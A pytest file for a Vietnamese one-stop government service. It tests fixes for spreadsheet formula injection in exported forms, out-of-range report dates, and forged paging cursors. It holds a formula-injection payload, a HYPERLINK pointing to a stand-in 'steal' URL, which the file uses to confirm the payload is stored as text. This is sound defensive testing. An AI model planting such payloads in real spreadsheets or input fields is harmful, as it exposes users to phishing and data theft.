"""Issue #11, findings 6 and 7 on the one-stop desk: report periods beyond Python's dates, bad
paging cursors, and spreadsheet formula injection in forms 05 and 06."""

from __future__ import annotations

import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine

from egov.core.keyset import encode_cursor
from egov.dossiers.models import Dossier
from egov.dossiers.tests.conftest import pdf_upload
from egov.onestop import services

from .conftest import act
from .test_api import API, session

pytestmark = pytest.mark.django_db
VN = ZoneInfo("Asia/Ho_Chi_Minh")
INJECTION = '=HYPERLINK("http://x.example/steal","click")'


def receive(staff, procedure) -> Dossier:  # type: ignore[no-untyped-def]
    dossier = services.receive_in_person(
        actor=act(staff.receiver),
        procedure_code=procedure.code,
        applicant=services.Applicant("citizen", "Lê Thị Hoa", "022195001234", "0912345678"),
        uploads={"to-khai": [pdf_upload("to-khai.pdf")]},
    )
    # Whatever intake accepts now or later (names typed at the desk, businesses' names, imported
    # rows), the exports must write it as text.
    Dossier.objects.filter(pk=dossier.pk).update(applicant_name=INJECTION)
    return dossier


def sheet_cells(content: bytes, sheet: str | None = None) -> list:  # type: ignore[type-arg]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    ws = book[sheet] if sheet else book.worksheets[0]
    return [c for row in ws.iter_rows() for c in row]


def assert_text_not_formula(content: bytes) -> None:
    cells = [c for c in sheet_cells(content) if c.value == INJECTION]
    assert cells, "the applicant's name is in the sheet"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix
    assert not [c for c in sheet_cells(content) if c.data_type == "f"]


def test_control_sheet_and_register_write_a_formula_name_as_text(staff, procedure):
    with time_machine.travel(datetime(2026, 11, 25, 9, 0, tzinfo=VN), tick=False):
        dossier = receive(staff, procedure)
    client = session(staff.leader.user)
    sheet = client.get(f"/mot-cua/ho-so/{dossier.code}/phieu-kiem-soat.xlsx")
    assert sheet.status_code == 200
    assert_text_not_formula(sheet.content)
    register = client.get("/mot-cua/so-theo-doi.xlsx?from=2026-11-01&to=2026-11-30")
    assert register.status_code == 200
    assert_text_not_formula(register.content)


@pytest.mark.parametrize(
    "query",
    [
        "from=9999-12-01&to=9999-12-31",  # the midnight after the last day overflowed
        "from=01/01/0001&to=02/01/0001",
        "from=2026-01-01&to=2200-01-01",
        "to=31/02/2026",
    ],
)
@pytest.mark.parametrize("extension", ["pdf", "xlsx"])
def test_register_with_dates_out_of_range_is_a_400_in_vietnamese(staff, query, extension):
    client = session(staff.leader.user)
    response = client.get(f"/mot-cua/so-theo-doi.{extension}?{query}")
    assert response.status_code == 400
    assert "Ngày" in response.content.decode()


def test_bad_queue_cursor_on_the_page_starts_at_page_one(staff, procedure):
    receive(staff, procedure)
    client = session(staff.receiver.user)
    first = client.get("/mot-cua/")
    assert first.status_code == 200
    for cursor in (
        "2026-02-30T00:00:00+07:00_1",  # parse_datetime raised ValueError
        "2026-11-25T00:00:00+07:00_99999999999999999999",  # overflowed the driver
        "2026-11-25T00:00:00_1",  # naive
        "x_y",
    ):
        # As typed, and signed as if by us: neither reaches the database as a bad key.
        for sent in (cursor, encode_cursor(cursor)):
            response = client.get("/mot-cua/", {"cursor": sent})
            assert response.status_code == 200


@pytest.mark.parametrize(
    "raw",
    ["2026-02-30T00:00:00+07:00_1", "2026-11-25T00:00:00+07:00_99999999999999999999", "x_1"],
)
def test_bad_queue_cursor_in_the_api_is_a_400_invalid_cursor(staff, raw):
    import base64

    # Signed as if by us but holding a bad key, and unsigned (edited or made up).
    unsigned = base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
    for cursor in (encode_cursor(raw), unsigned, encode_cursor(raw)[:-1] + "x"):
        response = session(staff.specialist.user).get(f"{API}/queue/", {"cursor": cursor})
        assert response.status_code == 400
        body = response.json()
        assert body["code"] == "invalid_cursor" and "cursor" in body["fields"]
